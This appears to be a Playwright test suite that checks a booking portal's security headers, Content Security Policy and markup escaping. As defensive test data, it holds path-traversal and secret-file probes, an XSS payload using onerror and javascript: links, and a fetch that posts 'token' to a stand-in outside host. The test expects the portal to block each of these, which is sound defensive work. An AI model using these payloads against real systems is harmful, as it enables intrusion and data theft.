import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Schemas } from '../../../src/contract/index.ts'
import { BOOKINGS } from '../support/bookings.ts'
import { formDrawer } from '../support/form.ts'
import { signOut, userMenu } from '../support/login.ts'
import { expect, test } from '../support/test.ts'

const html = { accept: 'text/html' }

test('[HD-01] [HD-02] every page comes with the strict policy, and with another nonce each time', async ({
  portal,
}) => {
  const nonces = new Set<string>()
  for (const address of ['/acme/login', '/acme/login', '/acme/bookings', '/nowhere']) {
    const answer = await fetch(portal.url + address, { headers: html })
    const policy = new Map(
      (answer.headers.get('content-security-policy') ?? '')
        .split('; ')
        .map((line) => [line.split(' ')[0], line.split(' ').slice(1).join(' ')]),
    )
    expect(policy.get('default-src')).toBe("'self'")
    expect(policy.get('script-src')).toBe("'self'")
    expect(policy.get('connect-src')).toBe("'self'")
    expect(policy.get('object-src')).toBe("'none'")
    expect(policy.get('base-uri')).toBe("'none'")
    expect(policy.get('frame-ancestors')).toBe("'none'")
    expect(policy.get('require-trusted-types-for')).toBe("'script'")
    const nonce = /^'self' 'nonce-([A-Za-z0-9+/=]{22,})'$/.exec(policy.get('style-src') ?? '')?.[1] ?? ''
    expect(nonce).not.toBe('')
    nonces.add(nonce)
    const page = await answer.text()
    expect(page).toContain(`content="${nonce}"`)
    expect(page).not.toContain('__NONCE__')
    expect(page).not.toMatch(/<script(?![^>]*\bsrc=)/)
  }
  expect(nonces.size).toBe(4)
})

const ANSWERS = [
  { what: 'a page', address: '/acme/login', status: 200, init: { headers: html } },
  { what: 'a file that is not there', address: '/assets/none.js', status: 404, init: {} },
  {
    what: 'a refused call',
    address: '/api-gateway/secure/1/bookings/?CreateDateNoOfDaysAgo=60',
    status: 401,
    init: { headers: { 'x-tenant': 'ACME' } },
  },
  { what: 'a call to nothing', address: '/api-gateway/1/nothing', status: 404, init: {} },
  {
    what: 'a body that is no JSON',
    address: '/api-gateway/1/new-login',
    status: 400,
    init: { method: 'POST', headers: { 'content-type': 'application/json', 'x-tenant': 'ACME' }, body: '{' },
  },
]

test('[HD-03] a page, a file that is not there, a refused call, one to nothing and one with a body that is no JSON are answered with the protecting headers', async ({
  portal,
}) => {
  for (const { what, address, status, init } of ANSWERS)
    await test.step(what, async () => {
      const answer = await fetch(portal.url + address, init)
      expect(answer.status).toBe(status)
      expect(Object.fromEntries(answer.headers)).toMatchObject({
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
        'permissions-policy': expect.stringContaining('geolocation=()'),
      })
      expect(answer.headers.get('x-powered-by')).toBeNull()
      await expect.poll(() => answer.text()).not.toMatch(/node_modules|\.ts:\d+|at \w+ \(/)
    })
})

test('[HD-21] nothing lies at an address that the portal does not serve', async ({ portal }) => {
  for (const address of [
    '/.env',
    '/.git/config',
    '/tenants/.hidden',
    '/assets/../package.json',
    '/assets/%2e%2e/package.json',
    '/tenants/acme/..%2f..%2f..%2fpackage.json',
    '/index.html.map',
  ]) {
    const answer = await fetch(portal.url + address)
    expect(answer.status, address).toBeGreaterThanOrEqual(400)
    await expect.poll(() => answer.text()).not.toContain('dependencies')
  }
})

/**
 * The list's library asks in the first whether it may make code of its own filters, and would in the second. It has neither: the
 * portal filters the rows itself, and turns both off (`disableEval`).
 */
const UNREACHED = ['Function(`return true`)', 'Function(`appliers`,`row`,`shouldApplyFilter`,']

test('[HD-01] [HD-21] no script of the built portal makes code from text, and none carries a map of its source', () => {
  const files = readdirSync('dist', { recursive: true, encoding: 'utf8' })
  const scripts = files.filter((file) => file.endsWith('.js'))
  expect(scripts.filter((file) => file.startsWith('tenants')).length).toBeGreaterThan(0)
  expect(files.filter((file) => file.includes('.map'))).toEqual([])
  for (const file of scripts) {
    const text = UNREACHED.reduce((rest, known) => rest.replace(known, ''), readFileSync(join('dist', file), 'utf8'))
    expect(text.match(/\bFunction\([\w'"`]|\beval\(|sourceMappingURL/g), file).toBeNull()
  }
})

test('[BX-05] [HD-01] the validators of a tenant run under that policy: walking through the portal violates nothing', async ({
  page,
  signIn,
}) => {
  const validators = page.waitForResponse('**/tenants/kaiyo/validators/**')
  const start = await page.goto('/kaiyo/login')
  expect(start?.headers()['content-security-policy']).toContain("script-src 'self';")
  await signIn(page, 'kaiyo', 'CUSTOMER')
  await userMenu(page).click()
  await page.getByRole('menuitemradio', { name: 'English' }).click()
  await page.getByRole('link', { name: 'Manage Bookings' }).first().click()
  await expect(page.getByRole('grid')).toBeVisible()
  await page.getByRole('link', { name: 'New Booking' }).first().click()
  const form = page.getByRole('dialog', { name: 'Booking' })
  expect((await validators).headers()['content-type']).toContain('javascript')

  const costCentre = form.getByRole('textbox', { name: 'Cost Centre' })
  await costCentre.fill('tyo 4711')
  await costCentre.press('Tab')
  await expect(form.getByText('" " is not allowed here: only capital letters, digits and -')).toBeVisible()
  await costCentre.fill('tyo-4711')
  await costCentre.press('Tab')
  await expect(form.getByText('" " is not allowed here: only capital letters, digits and -')).toBeHidden()

  await form.getByRole('switch', { name: 'Pickup Required' }).click()
  await form.getByRole('button', { name: /calendar.*Ready Date/i }).click()
  await expect(page.getByRole('grid').last()).toBeVisible()
  await page.keyboard.press('Escape')
  await form.getByRole('button', { name: 'Close' }).last().click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Leave' }).click()
  await expect(form).toBeHidden()
  await userMenu(page).click()
  await page.getByRole('menuitem', { name: 'About this software' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()
  await expect(page.getByRole('dialog')).toBeHidden()
  await signOut(page)
})

/** Runs in the page, outside of what the browser lets a debugger do: tries all that the policy forbids, and tells how each went. */
const tryAll = () =>
  new Promise<Record<string, string>>((done) => {
    setTimeout(() => {
      const outcome: Record<string, string> = {}
      const attempt = (name: string, act: () => unknown) => {
        try {
          act()
          outcome[name] = 'done'
        } catch (error) {
          outcome[name] = (error as Error).name
        }
      }
      const add = (tag: string, fill: (element: HTMLElement) => void) => {
        const element = document.createElement(tag)
        fill(element)
        document.head.append(element)
      }
      Object.assign(window, { reached: [] })
      attempt('code from text', () =>
        (window as unknown as Record<string, (text: string) => unknown>)['eval']?.('reached.push(1)'),
      )
      attempt('markup from text', () => (document.head.innerHTML += '<b>'))
      attempt('a script from text', () => {
        add('script', (element) => (element.textContent = 'reached.push(2)'))
      })
      add('style', (element) => element.append('body { outline: 9px solid red }'))
      add('base', (element) => {
        element.setAttribute('href', 'https://elsewhere.example/')
      })
      add('img', (element) => {
        element.setAttribute('src', 'https://elsewhere.example/picture.png')
      })
      const call = fetch('https://elsewhere.example/take', { method: 'POST', body: 'token' }).then(
        () => 'done',
        (error: unknown) => (error as Error).name,
      )
      void call.then((answer) => {
        outcome['a call elsewhere'] = answer
        outcome['reached'] = String((window as unknown as { reached: number[] }).reached.length)
        outcome['outline'] = getComputedStyle(document.body).outlineStyle
        outcome['base'] = new URL('x', document.baseURI).origin === location.origin ? 'own' : 'other'
        done(outcome)
      })
    }, 0)
  })

test('[HD-01] [HD-02] [HD-22] the page refuses code, markup, styles and addresses that are not its own, and a journey hears of each', async ({
  page,
  signIn,
  complaints,
}) => {
  await signIn(page, 'acme', 'CUSTOMER', '/acme/nothing')
  expect(complaints.list).toEqual([])
  const outcome = await page.evaluate(tryAll)
  expect(outcome).toEqual({
    'code from text': 'EvalError',
    'markup from text': 'TypeError',
    'a script from text': 'TypeError',
    'a call elsewhere': 'TypeError',
    reached: '0',
    outline: 'none',
    base: 'own',
  })
  const heard = () =>
    complaints.list
      .filter((complaint) => complaint.startsWith('policy violated'))
      .map((complaint) => complaint.split(' ')[2])
  for (const rule of ['require-trusted-types-for', 'style-src-elem', 'base-uri', 'img-src', 'connect-src'])
    await expect.poll(heard).toContainEqual(rule)
  complaints.list.length = 0
})

const MARKUP = `<img src="x" onerror="document.title='taken over'"><a href="javascript:alert(1)">`
/** Every text of a tree of JSON that people read, with markup behind it; what the portal works with stays. */
function withMarkup(value: unknown, key = ''): unknown {
  if (typeof value === 'string')
    return /^(shipper|consignee|shipperName|commodity|refNo|referenceNumber|dateUpdated|status|fileName|description|createdBy.*)$/.test(
      key,
    ) && /[a-z]{2}/i.test(value)
      ? `${value} ${MARKUP}`
      : value
  if (Array.isArray(value)) return value.map((entry) => withMarkup(entry, key))
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([name, entry]) => [name, withMarkup(entry, name)]))
  return value
}

test('[HD-04] [HD-05] [HD-11] what comes from the gateway and the JSON is text: markup is shown, addresses of others are never followed', async ({
  page,
  signIn,
  ask,
}) => {
  await page.route('**/tenants/acme/tenant.json', async (route) => {
    const answer = await route.fetch()
    const tenant = (await answer.json()) as { theme: object }
    const theme = {
      ...tenant.theme,
      logo: 'javascript:alert(1)',
      background: 'https://elsewhere.example/back.png',
      favicon: 'data:image/svg+xml,<svg/>',
    }
    await route.fulfill({
      response: answer,
      json: { ...tenant, name: `Acme ${MARKUP}`, redirectUrl: 'javascript:alert(2)', theme },
    })
  })
  await page.route('**/tenants/acme/labels/en.*.json', async (route) => {
    const answer = await route.fetch()
    const text = (await answer.text()).replace('"Manage Bookings"', JSON.stringify(`Manage Bookings ${MARKUP}`))
    await route.fulfill({ response: answer, body: text })
  })
  await page.route(`**${BOOKINGS}**`, async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, json: withMarkup(await answer.json()) })
  })
  await page.goto('/acme/login')
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible()
  await signIn(page, 'acme', 'CUSTOMER', '/acme/bookings')
  await expect(page.getByRole('heading', { name: `Manage Bookings ${MARKUP}` })).toBeVisible()
  await expect(page.getByRole('gridcell', { name: MARKUP }).first()).toBeVisible()

  const list = (await ask(page, `${BOOKINGS}?CreateDateNoOfDaysAgo=180`)) as Schemas['BookingList']
  const full = await Promise.all(
    list.data
      .slice(0, 30)
      .map(async ({ unId }) => (await ask(page, `${BOOKINGS}${unId}?userRole=CPUser`)) as Schemas['Booking']),
  )
  const documented = full.find(({ documents = [] }) => documents.some(({ type }) => type !== 'EXD'))
  const document = documented?.documents?.find(({ type }) => type !== 'EXD')
  await page.route(`**${BOOKINGS}${documented?.unId ?? ''}?**`, async (route) => {
    const answer = await route.fetch()
    const text = (await answer.text()).replaceAll(
      /"downloadableURL":"[^"]*"/g,
      '"downloadableURL":"https://elsewhere.example/fetch-me"',
    )
    await route.fulfill({ response: answer, body: text })
  })
  await page.goto(`/acme/bookings?booking=${documented?.unId ?? ''}`)
  const form = await formDrawer(page, /^Booking/)
  const called = page.waitForResponse((response) =>
    response.url().includes(`/secure/1/docs/${document?.externalID ?? ''}`),
  )
  const download = page.waitForEvent('download')
  await form
    .getByRole('button', { name: `Download ${document?.fileName ?? ''}` })
    .first()
    .click()
  expect((await called).headers()).toMatchObject({
    'content-disposition': expect.stringMatching(/^attachment/),
    'content-security-policy': expect.stringContaining('sandbox'),
  })
  expect((await download).url()).toMatch(/^blob:/)
  await expect(page.locator('img[src="x"], a[href^="javascript:"]')).toHaveCount(0)
  await expect(page).not.toHaveTitle('taken over')
})
